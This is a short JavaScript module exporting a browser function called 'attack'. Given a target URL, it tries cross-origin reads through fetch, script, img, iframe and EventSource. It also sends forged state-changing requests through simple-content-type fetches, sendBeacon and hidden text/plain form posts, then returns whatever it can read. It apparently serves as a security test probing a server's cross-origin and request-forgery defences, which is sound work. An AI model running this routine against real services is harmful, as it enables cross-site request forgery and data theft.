/** Everything that a page can do to another address; gives what it could read. Runs in a browser. */
export async function attack({ url, reading, changing }) {
  const seen = []
  const patience = () => AbortSignal.timeout(3000)
  const note = (text) => {
    if (text) seen.push(text.slice(0, 2000))
  }
  const once = (element, parent) =>
    new Promise((resolve) => {
      element.onload = element.onerror = () => resolve()
      parent.append(element)
      setTimeout(resolve, 1000)
    })
  for (const path of reading) {
    for (const mode of ['cors', 'no-cors'])
      await fetch(url + path, { mode, signal: patience() })
        .then(async (answer) => note(await answer.text()))
        .catch(() => {})
    await once(Object.assign(document.createElement('script'), { src: url + path }), document.body)
    await once(Object.assign(document.createElement('img'), { src: url + path }), document.body)
    const frame = Object.assign(document.createElement('iframe'), { src: url + path })
    await once(frame, document.body)
    try {
      note(frame.contentDocument?.body?.innerText ?? '')
    } catch {
      // Of another origin.
    }
  }
  await new Promise((resolve) => {
    const source = new EventSource(`${url}events/stream?last_event_id=0`)
    source.onmessage = ({ data }) => note(data)
    setTimeout(() => resolve(source.close()), 1000)
  })
  for (const [method, path, body] of changing) {
    for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded'])
      for (const mode of ['cors', 'no-cors'])
        await fetch(url + path, {
          method,
          mode,
          headers: { 'content-type': type },
          signal: patience(),
          ...(body !== undefined && { body }),
        })
          .then(async (answer) => note(await answer.text()))
          .catch(() => {})
    navigator.sendBeacon(url + path, body ?? '')
    if (method === 'DELETE') continue
    const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` })
    document.body.append(frame)
    const form = Object.assign(document.createElement('form'), {
      action: url + path,
      method,
      enctype: 'text/plain',
      target: frame.name,
    })
    form.append(Object.assign(document.createElement('input'), { name: body ?? 'x', value: '' }))
    document.body.append(form)
    form.submit()
    await new Promise((resolve) => setTimeout(resolve, 200))
  }
  return seen
}
